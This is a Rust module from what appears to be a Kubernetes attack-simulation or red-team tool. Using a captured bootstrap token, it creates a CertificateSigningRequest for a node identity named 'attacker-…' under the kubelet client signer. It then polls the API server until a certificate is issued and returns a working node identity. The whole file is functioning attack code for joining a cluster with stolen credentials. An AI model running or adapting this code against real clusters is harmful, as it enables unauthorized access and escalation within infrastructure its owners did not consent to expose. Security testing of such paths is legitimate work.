//! With a captured bootstrap token the attacker joins the cluster: it becomes a node.

use super::spend::{Shown, for_ask, request};
use crate::notes::Notes;
use crate::target::{Ask, Speaks, Target};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use ravelin_pki::{Identity, KeyPair, SigningRequest, Subject};
use serde_json::{Value, json};
use std::time::Duration;

/// Where signing requests are.
pub const REQUESTS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

/// How often it looks for its certificate, and the pause between.
const LOOKS: u32 = 10;
const PAUSE: Duration = Duration::from_millis(300);

/// Asks for a node's certificate with a bootstrap token; gives what was issued.
pub async fn join(notes: &Notes<'_>, target: &Target, token: &str) -> Option<Identity> {
    let mut entropy = notes.field().host().entropy("joining");
    let (key, name) = (KeyPair::generate(&mut entropy), format!("attacker-{}", entropy.word(6)));
    let subject = Subject::new(format!("system:node:{name}"), &["system:nodes"]);
    let signing_request = json!({
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": STANDARD.encode(SigningRequest::create(&subject, &[], &key)),
            "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
            "usages": ["digital signature", "client auth"],
        },
    });
    let create = Ask::post(REQUESTS, Some(&signing_request), "a node's certificate");
    let flow = notes.field().flow(target.apiserver);
    let created = ask(notes, target, (&create, token)).await;
    if !created.is_some_and(|answer| answer["metadata"]["name"] == name) {
        notes.tell(format!("{flow}: the captured token was not allowed to ask for a certificate"));
        return None;
    }
    let look = Ask::get(&format!("{REQUESTS}/{name}"), "its own signing request");
    for _ in 0..LOOKS {
        tokio::time::sleep(PAUSE).await;
        let found = ask(notes, target, (&look, token)).await;
        let Some(chain) = found.as_ref().and_then(|found| found["status"]["certificate"].as_str()) else {
            continue;
        };
        let chain = String::from_utf8(STANDARD.decode(chain).ok()?).ok()?;
        notes.tell(format!("{flow}: joined the cluster as system:node:{name} with the captured token"));
        return Identity::from_pem(&chain, &key.to_pem()).ok();
    }
    notes.tell(format!("{flow}: its signing request was not approved"));
    None
}

async fn ask(notes: &Notes<'_>, target: &Target, (wanted, token): (&Ask, &str)) -> Option<Value> {
    let shown = Shown { token: Some(token), identity: None };
    let to = target.apiserver;
    let answer = request(notes, to, Speaks::Https, (for_ask(wanted, to), shown)).await.ok()?;
    answer.granted().then(|| serde_json::from_slice(&answer.body).ok())?
}
